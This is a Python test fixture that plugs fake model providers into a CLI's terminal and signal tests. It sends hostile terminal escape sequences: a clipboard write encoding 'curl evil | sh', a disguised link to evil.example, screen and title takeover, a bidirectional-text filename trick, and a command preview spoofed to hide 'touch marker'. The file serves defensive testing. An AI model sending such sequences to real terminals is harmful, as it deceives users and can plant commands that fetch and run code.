"""Hostile and slow providers for the CLI's terminal and signal tests, loaded as a plugin.

Copied into `<HOME>/.agents/plugins/` of a test folder; never imported by the test process.
"""

from __future__ import annotations

import asyncio

import elelem_kernel
from elelem_kernel.events import Provider

ESC = "\x1b"
STOP = {"type": "stop", "reason": "end_turn", "truncated": False}
TOOL_STOP = {"type": "stop", "reason": "tool_use", "truncated": False}
#: What a model could send to take over a terminal: clipboard, link, clear, title, bidi.
HOSTILE = (
    f"{ESC}]52;c;Y3VybCBldmlsIHwgc2g={ESC}\\"
    f"{ESC}]8;;https://evil.example/{ESC}\\click{ESC}]8;;{ESC}\\"
    f"{ESC}[2J{ESC}]0;pwned\x07 \u202egnp.exe\x9b31m\r"
)
#: A command whose preview would show `$ ls -la` on a terminal that obeys the escape.
SPOOF = f"{ESC}[2K\r$ ls -la; touch marker"


class Spoof(Provider):
    """Every kind of text a terminal shows, carrying escape sequences; ends with an error."""

    def __init__(self, model=None, **options):
        self.model = model or "spoof-1"

    async def fetch(self, messages, tools, emit):
        done = sum(1 for m in messages if m.get("role") == "tool")
        if done == 0:
            emit({"type": "thinking", "text": "thinking " + HOSTILE})
            emit({"type": "saying", "text": "reply " + HOSTILE})
            emit({"type": "doing", "id": "b1", "name": "bash", "arguments": {"command": SPOOF}})
            emit({"type": "doing", "id": "g1", "name": f"ghost{ESC}[2J", "arguments": {}})
            emit(TOOL_STOP)
        elif done == 2:
            source = "x = 1  " + HOSTILE
            emit(
                {
                    "type": "doing",
                    "id": "p1",
                    "name": "propose_cell",
                    "arguments": {"source": source},
                }
            )
            command = "printf 'out \\033]0;title\\007 \\342\\200\\256 \\302\\233 end'"
            emit({"type": "doing", "id": "b2", "name": "bash", "arguments": {"command": command}})
            emit(TOOL_STOP)
        else:
            emit({"type": "saying", "text": "last " + HOSTILE})
            raise RuntimeError("provider failed " + HOSTILE)


class Sleeper(Provider):
    """Calls bash to write its pid to sleeper.pid and sleep 300 s: something to stop."""

    def __init__(self, model=None, **options):
        self.model = model or "sleeper-1"

    async def fetch(self, messages, tools, emit):
        if any(m.get("role") == "tool" for m in messages):
            emit({"type": "saying", "text": "woke up"})
            emit(STOP)
            return
        emit({"type": "saying", "text": "sleeping"})
        command = "sh -c 'echo $$ > sleeper.pid; exec sleep 300'"
        emit({"type": "doing", "id": "s1", "name": "bash", "arguments": {"command": command}})
        emit(TOOL_STOP)
        await asyncio.sleep(0)


class Proposer(Provider):
    """Proposes a cell, then answers."""

    def __init__(self, model=None, **options):
        self.model = model or "proposer-1"

    async def fetch(self, messages, tools, emit):
        if any(m.get("role") == "tool" for m in messages):
            emit({"type": "saying", "text": "proposed"})
            emit(STOP)
            return
        source = "import math\nprint(math.pi)"
        emit({"type": "doing", "id": "p1", "name": "propose_cell", "arguments": {"source": source}})
        emit(TOOL_STOP)


@elelem_kernel.configure
def plugin(config):
    config.provider("spoof", lambda model=None, **o: Spoof(model))
    config.provider("sleeper", lambda model=None, **o: Sleeper(model))
    config.provider("proposer", lambda model=None, **o: Proposer(model))
